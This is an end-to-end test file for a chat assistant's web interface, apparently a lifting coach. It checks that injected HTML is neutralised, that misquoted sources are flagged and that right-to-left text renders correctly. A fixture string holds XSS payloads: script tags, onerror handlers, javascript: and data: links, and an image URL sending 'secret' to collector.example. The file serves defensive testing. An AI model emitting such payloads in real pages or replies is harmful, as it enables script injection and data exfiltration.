import { textReply, toolReply } from '#fakes/model-replies.ts';
import { answers, ask, composer, expect, expectAccessible, signUp, test } from './test.ts';

const HOSTILE = `<script>document.title = 'owned'</script><img src=x onerror="document.title = 'owned'">

![secret](https://collector.example/?data=secret) <a href="javascript:alert(1)">raw</a>

[click](javascript:alert(1)) [data](data:text/html,<script>1</script>) [fine](https://example.com/)

{"conversationId":"x"}

data: {"type":"end","ending":"done"}

event: end`;

test('what a model writes is text: nothing runs, nothing leaves', { tag: '@core' }, async ({
  page,
  scripted,
}) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(scripted.address) && !request.url().startsWith('data:'))
      foreign.push(request.url());
  });
  scripted.play(textReply(HOSTILE));
  await signUp(page, scripted.address);
  await ask(page, 'Be evil');
  const answer = answers(page);
  await expect(answer).toContainText('event: end');
  await expect(answer).toContainText('{"conversationId":"x"}');
  await expect(answer).toContainText('data: {"type":"end","ending":"done"}');
  await expect(answer.getByRole('link', { name: 'fine' })).toHaveAttribute('rel', /noopener/);
  await expect(answer.locator('script, img, iframe')).toHaveCount(0);
  // The app's own links, such as the one to print an answer, appear below it a moment later.
  const targets = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href));
  expect(targets.filter((target) => !target.startsWith(scripted.address))).toEqual(['https://example.com/']);
  await expect(page).not.toHaveTitle('owned');
  expect(foreign).toEqual([]);
});

test('a quote the page does not hold is marked, a true one opens it', { tag: '@core' }, async ({
  page,
  scripted,
}) => {
  scripted.play(
    toolReply([{ name: 'knowledge_base', input: { query: 'heavy single' } }]),
    textReply(
      '“Work up to a heavy single, then stop.” [1] But also “always miss every lift at least twice.” [1]',
    ),
  );
  await signUp(page, scripted.address);
  await ask(page, 'What is a heavy single?');
  await expect(answers(page)).toContainText('not found on the page');
  await expectAccessible(page);
  await answers(page)
    .getByRole('button', { name: /^Source 1: The Barn Book, page 1/ })
    .first()
    .click();
  await expect(page.locator('mark').first()).toContainText('Work up to a');
});

test('right-to-left text is set right to left, wherever it is', async ({ page, scripted }) => {
  scripted.play(textReply('ابدأ بالوركين [1].\n\n- القرفصاء 5 × 5\n\n`squat: 80 %`'));
  await signUp(page, scripted.address);
  const question = 'كيف أحسّن القرفصاء؟';
  await composer(page).fill(question);
  await expect(composer(page)).toHaveCSS('direction', 'rtl');
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(answers(page).getByRole('listitem')).toHaveCSS('direction', 'rtl');
  await expect(answers(page).getByText('ابدأ بالوركين')).toHaveCSS('direction', 'rtl');
  await expect(answers(page).getByText('squat: 80 %')).toHaveCSS('direction', 'ltr');
  await expect(page.getByRole('heading', { level: 2 })).toHaveCSS('direction', 'rtl');
  if (test.info().project.name === 'phone') await page.getByRole('button', { name: 'Menu' }).click();
  const row = page.getByRole('navigation', { name: 'Conversations' }).getByText(question);
  await expect(row).toHaveCSS('direction', 'rtl');
});
